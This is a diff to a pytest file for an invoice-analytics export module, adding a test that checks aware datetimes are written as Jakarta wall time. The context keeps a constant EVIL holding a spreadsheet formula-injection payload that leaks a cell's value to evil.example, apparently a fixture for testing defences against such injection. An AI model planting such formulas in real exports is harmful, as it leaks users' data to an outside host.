@@ -11,7 +11,7 @@ import pytest
 openpyxl = pytest.importorskip("openpyxl")
 
 from invoice_analytics.errors import ExportWarning  # noqa: E402
-from invoice_analytics.export import EXCEL_CELL_LIMIT, write_csv, write_excel  # noqa: E402
+from invoice_analytics.export import EXCEL_CELL_LIMIT, excel_ready, write_csv, write_excel  # noqa: E402
 from tests.support.frames import frame  # noqa: E402
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Invoice")'
@@ -185,3 +185,8 @@ def test_exports_follow_the_umask(tmp_path):
     assert csv_path.stat().st_mode & 0o777 == 0o644
     assert book.stat().st_mode & 0o777 == 0o644
     assert strict.stat().st_mode & 0o777 == 0o640
+
+
+def test_excel_ready_writes_aware_datetimes_as_jakarta_wall_time():
+    df = pd.DataFrame({"issued_at": pd.to_datetime(["2024-01-01 01:00"], utc=True)})
+    assert excel_ready(df, index=False)["issued_at"].tolist() == [pd.Timestamp("2024-01-01 08:00:00")]
